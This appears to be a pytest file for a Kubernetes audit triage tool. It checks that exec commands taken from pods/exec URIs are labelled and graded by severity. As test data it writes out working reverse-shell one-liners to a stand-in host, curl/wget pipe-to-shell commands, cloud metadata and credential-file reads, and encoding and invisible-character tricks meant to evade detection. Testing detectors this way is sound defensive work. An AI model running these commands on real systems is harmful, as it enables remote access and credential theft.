"""The exec command, read from a `pods/exec` request URI and judged; hostile commands."""

from __future__ import annotations

import json
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from test_detect_audit import audit, only_signal, run

from ktriage.core.detect.exec_command import MAX_ARGS, exec_command, judge_command
from ktriage.core.ingest import Ingestor
from ktriage.core.model import Event, Severity
from ktriage.core.text import shown

REAL = Path(__file__).resolve().parents[2] / ".." / "shared" / "fixtures" / "real"


def exec_uri(*args: str, encode: bool = True) -> str:
    query = "&".join(f"command={quote(a, safe='') if encode else a}" for a in args)
    return f"/api/v1/namespaces/shop/pods/web-5f7c/exec?{query}&container=web&stdin=true&tty=true"


def exec_signal(*args: str, uri: str | None = None, code: int = 101) -> Event:
    rec = audit(
        "create", "pods", ns="shop", name="web-5f7c", sub="exec", code=code,
        stage="ResponseStarted", uri=uri or exec_uri(*args),
    )  # fmt: skip
    return only_signal(rec)


@pytest.mark.parametrize(
    ("args", "kind_label", "severity", "technique", "matched"),
    [
        (["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"],
         "Reverse shell via exec", Severity.CRITICAL, "T1059.004", "/dev/tcp/198.51.100.4/4444"),
        (["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.4 443 >/tmp/f"],
         "Reverse shell via exec", Severity.CRITICAL, "T1059.004", "mkfifo"),
        (["nc", "-e", "/bin/sh", "198.51.100.4", "9001"],
         "Reverse shell via exec", Severity.CRITICAL, "T1059.004", "nc -e"),
        (["python3", "-c", "import socket,subprocess;s=socket.socket();s.connect(('x',1))"],
         "Reverse shell via exec", Severity.CRITICAL, "T1059.004", "socket"),
        (["socat", "tcp-connect:198.51.100.4:4444", "exec:bash,pty,stderr"],
         "Reverse shell via exec", Severity.CRITICAL, "T1059.004", "exec:"),
        (["sh", "-c", "curl -fsSL https://example.net/x.sh | sh"],
         "Download and run via exec", Severity.HIGH, "T1105", "| sh"),
        (["sh", "-c", "wget -q -O- http://198.51.100.4/k | bash"],
         "Download and run via exec", Severity.HIGH, "T1105", "| bash"),
        (["sh", "-c", "curl -o /tmp/m http://x/m && chmod +x /tmp/m && /tmp/m"],
         "Download and run via exec", Severity.HIGH, "T1105", "chmod"),
        (["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
         "Cloud metadata access via exec", Severity.HIGH, "T1552.005", "169.254.169.254"),
        (["curl", "-H", "Metadata-Flavor: Google",
          "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
         "Cloud metadata access via exec", Severity.HIGH, "T1552.005", "metadata.google.internal"),
        (["curl", "http://[fd00:ec2::254]/latest/meta-data/"],
         "Cloud metadata access via exec", Severity.HIGH, "T1552.005", "fd00:ec2::254"),
        (["cat", "/etc/shadow"],
         "Password file read via exec", Severity.HIGH, "T1003.008", "/etc/shadow"),
        (["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
         "Token read via exec", Severity.HIGH, "T1528", "/var/run/secrets/kubernetes.io"),
        (["cat", "/root/.kube/config"],
         "Credential read via exec", Severity.HIGH, "T1552.001", ".kube/config"),
        (["cat", "/home/app/.aws/credentials"],
         "Credential read via exec", Severity.HIGH, "T1552.001", ".aws/credentials"),
        (["cat", "/root/.ssh/id_rsa"],
         "Credential read via exec", Severity.HIGH, "T1552.001", "id_rsa"),
    ],
)  # fmt: skip
def test_exec_command_is_judged(
    args: list[str], kind_label: str, severity: Severity, technique: str, matched: str
) -> None:
    ev = exec_signal(*args)
    assert ev.kind == "exec"
    assert ev.label == kind_label
    assert ev.severity == severity
    assert ev.attack.technique == technique
    assert matched in ev.summary
    assert ev.summary.startswith("alice exec into shop/web-5f7c: ")


@pytest.mark.parametrize(
    "args",
    [
        ["bash"],
        ["sh", "-c", "ls -la /app && cat /app/config.yaml"],
        ["curl", "-s", "http://localhost:8080/healthz"],
        ["wget", "-q", "--spider", "http://127.0.0.1:8080/ready"],
        ["nc", "-zv", "db", "5432"],
        ["python3", "-c", "print('socket count', 3)"],
        ["cat", "/etc/passwd"],
        ["env"],
    ],
)
def test_ordinary_exec_stays_medium(args: list[str]) -> None:
    ev = exec_signal(*args)
    assert ev.label == "Exec into pod"
    assert ev.severity == Severity.MEDIUM
    assert ev.attack.technique == "T1609"


def test_denied_dangerous_exec_is_low_attempt() -> None:
    ev = exec_signal("cat", "/etc/shadow", code=403)
    assert ev.severity == Severity.LOW
    assert ev.label.endswith("attempt (denied)")


def test_real_falco_exec_trace_is_a_plain_exec() -> None:
    path = REAL / "falco-k8s-audit" / "exec_pod.json"
    if not path.exists():
        pytest.skip(f"real fixtures not present ({path})")
    ing = Ingestor()
    [ev] = ing.feed_line(path.read_bytes())
    assert ev.signal and ev.kind == "exec"
    assert ev.severity == Severity.MEDIUM
    assert ev.summary.endswith(": bash")


# -- hostile commands -------------------------------------------------------------------


def test_hostile_percent_encoding_tricks() -> None:
    # Encoded once more than the query needs: what the check reads is decoded again.
    uri = exec_uri("bash", "-c", "bash -i >& %2Fdev%2Ftcp%2F198.51.100.4%2F4444 0>&1")
    assert exec_signal(uri=uri).severity == Severity.CRITICAL
    # Separators encoded, mixed case
    uri = "/api/v1/namespaces/shop/pods/web-5f7c/exec?command=CAT&command=%2F%45tc%2Fsh%61dow"
    assert exec_signal(uri=uri).label == "Password file read via exec"


def test_hostile_invisible_characters_do_not_hide_the_command() -> None:
    ev = exec_signal("bash", "-c", "bash -i >& /dev/\u200btcp/198.51.100.4/1 0>&1")
    assert ev.severity == Severity.CRITICAL
    ev = exec_signal("cat", "/etc/\u202eshadow")
    assert ev.label == "Password file read via exec"
    # shown as text: no raw control or bidi character reaches a terminal
    assert "\u202e" not in shown(ev.summary)
    ev = exec_signal("sh", "-c", "cu\\rl http://x/s | b\\ash")
    assert ev.label == "Download and run via exec"


def test_hostile_markup_in_the_command_stays_text() -> None:
    ev = exec_signal("sh", "-c", "[bold red]cat[/] /etc/shadow \x1b[2J")
    assert "[bold red]cat[/]" in ev.summary
    assert "\x1b" not in shown(ev.summary)


def test_hostile_many_command_params_are_bounded() -> None:
    args = ["x"] * (MAX_ARGS + 500) + ["/etc/shadow"]
    argv, cut = exec_command(exec_uri(*args, encode=False))
    assert cut and len(argv) == MAX_ARGS
    ev = exec_signal(uri=exec_uri(*args, encode=False))
    assert f"command cut: {MAX_ARGS} arguments read" in ev.summary


def test_hostile_huge_command_is_judged_quickly() -> None:
    filler = "curl " * 12_000 + "a" * 4_000 + "; nc "  # many starts, no pipe
    started = time.perf_counter()
    judge_command(["sh", "-c", filler + "bash -i >& /dev/tcp/198.51.100.4/1 0>&1"])
    findings = judge_command(["sh", "-c", filler])
    assert time.perf_counter() - started < 2.0
    assert findings == []
    payload = "a" * 40_000 + "; bash -i >& /dev/tcp/198.51.100.4/1 0>&1"
    assert judge_command(["sh", "-c", payload])[0].kind == "reverse-shell"


def test_hostile_command_param_lookalikes_are_not_the_command() -> None:
    # Only `command` parameters are the argv; `commandx`, `Command` and `container` are not.
    uri = (
        "/api/v1/namespaces/shop/pods/web-5f7c/exec?commandx=cat%20/etc/shadow"
        "&Command=cat%20/etc/shadow&container=%2Fdev%2Ftcp%2F1&command=ls"
    )
    ev = exec_signal(uri=uri)
    assert ev.severity == Severity.MEDIUM
    assert ev.summary.endswith(": ls")


def test_hostile_exec_record_killed_midway_loses_nothing() -> None:
    line = json.dumps(
        audit("create", "pods", ns="shop", name="w", sub="exec", code=101,
              uri=exec_uri("cat", "/etc/shadow"))
    ).encode()  # fmt: skip
    ing = Ingestor()
    assert ing.feed_line(line[: len(line) // 2]) == []
    assert ing.skipped["truncated-json"] == 1
    events = run(json.loads(line))
    assert [e.severity for e in events] == [Severity.HIGH]
